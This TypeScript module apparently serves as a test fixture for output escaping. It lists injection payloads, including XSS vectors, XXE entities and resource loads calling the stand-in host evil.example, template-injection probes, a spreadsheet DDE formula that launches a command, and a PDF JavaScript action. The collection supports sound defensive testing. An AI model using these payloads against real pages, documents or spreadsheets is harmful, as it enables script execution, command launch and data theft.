/** A host that nobody of ours asks: a request for it is a text that ran. */
export const FOREIGN = 'evil.example';

/**
 * Texts that would run, load or compute something if a page, a paper or a
 * spreadsheet let them. None breaks a line.
 */
export const PAYLOADS: readonly string[] = [
  // Script elements, whole and broken
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script src=//evil.example/a.js></script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<script>alert(1)//',
  '<<script>alert(1)//<</script>',
  '<script type=module>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/i onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a onclick=alert(1)>bấm</a>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  // Drawings and formulas of XML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href=//evil.example/a.svg#x>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/e">]>&e;',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<?xml-stylesheet href="//evil.example/a.xsl"?>',
  // Addresses
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//http://',
  '<a href=javascript:alert(1)>bấm</a>',
  'data:text/html,<script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=//evil.example/o>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>Gửi</button>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  // Styles
  '<style>@import "//evil.example/a.css"</style>',
  '<b style="background:url(//evil.example/b)">x</b>',
  'red;background:url(//evil.example/c)',
  // Templates
  '{{1337*1337}}',
  '${1337*1337}',
  '<%= 1337*1337 %>',
  '{@html alert(1)}',
  '{constructor.constructor("alert(1)")()}',
  // Entities and other disguises
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u202e<script>alert(1)</script>\u202c',
  '<\u200bscript>alert(1)</script>',
  // Spreadsheets and papers
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1337*1337)',
  ') Tj ET (/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
];

/** What the templates and formulas among them come to: it stands nowhere unless one was computed. */
export const COMPUTED = String(1337 * 1337);

/** The payload of this number, or the next one that is no longer than `limit`. */
export function payloadFor(nth: number, limit = 100): string {
  for (let at = 0; at < PAYLOADS.length; at += 1) {
    const payload = PAYLOADS[(nth + at) % PAYLOADS.length]!;
    if (payload.length <= limit) return payload;
  }
  throw new Error(`no payload has ${limit} characters or fewer`);
}
